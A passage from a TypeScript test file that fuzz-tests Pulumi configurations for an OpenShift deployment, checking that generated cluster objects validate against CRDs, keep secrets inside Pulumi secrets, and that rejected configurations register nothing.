            `the Containerfile of ${JSON.stringify(g.allConfig["rhcos-forge:image"]).slice(0, 400)}`,
        );
        const mine = harness.registrations.slice(from);
        assert.ok(
            mine.some(r => r.type.startsWith("kubernetes:")),
            "the rollout registered cluster objects",
        );
        for (const r of mine) {
            assert.deepEqual(
                plainStrings(r.raw).flatMap(leaked),
                [],
                `${r.type} ${r.name} carries a secret outside a Pulumi secret`,
            );
            if (!/^kubernetes:(machineconfiguration|config)\.openshift\.io\//.test(r.type) || r.type.endsWith("Patch"))
                continue;
            const { apiVersion, kind, metadata, spec } = r.inputs;
            validateAgainstCrd(`release-${cfg.cluster.openshiftVersion}`, {
                apiVersion,
                kind,
                metadata,
                spec,
            } as Record<string, unknown>);
            objects++;
        }
    }
    console.log(
        `config fuzz: ${accepted.length} accepted stacks ran under mocks, ${objects} OpenShift objects valid, ` +
            `in ${((Date.now() - started) / 1000).toFixed(1)}s`,
    );
    assert.ok(objects >= accepted.length, "every run declared at least one OpenShift object");
});

it(`a sample of the rejected stacks registers nothing on the program's entry path`, async () => {
    await harness.settle();
    for (const g of rejected) {
        pulumi.runtime.setAllConfig(g.allConfig, secretKeysOf(g.allConfig));
        const from = harness.registrations.length;
        await assert.rejects(harness.runProgram(), ConfigError);
        await harness.settle();
        assert.equal(harness.registrations.length, from, "nothing registered for a rejected stack");
    }
    console.log(`config fuzz: ${rejected.length} rejected stacks registered nothing`);
});
